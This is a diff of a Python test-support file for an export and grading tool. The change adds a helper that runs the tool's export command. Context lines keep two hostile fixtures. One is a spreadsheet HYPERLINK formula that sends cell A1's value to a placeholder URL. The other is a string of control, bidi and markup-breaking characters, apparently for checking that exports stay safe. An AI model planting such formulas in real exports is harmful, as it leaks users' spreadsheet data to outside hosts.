@@ -8,6 +8,7 @@ from graders.exact import Exact
 from hybrid.grading.grade_file import grade_file
 from hybrid.outputs import grades_of, write_outputs
 from hybrid.records import Failure, Output
+from tests.support.in_process import Hybrid
 
 FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"open")'
 HOSTILE = "<b>&\u202e\x1b[2J\r\n\x00'\"]]>\ufffe"
@@ -46,3 +47,10 @@ def graded_run(folder: Path, outputs: list[Output] = OUTPUTS, *, grade: bool = T
     if grade:
         grade_file(path, Exact(), "exact", grades_of(path, "exact"))
     return path
+
+
+def exported(hybrid: Hybrid, source: object, name: str, *more: object, code: int = 0) -> Path:
+    """The path that `hybrid export` printed."""
+    done = hybrid("export", source, "--to", name, *more)
+    assert done.code == code, done.stderr
+    return Path(done.stdout.strip())
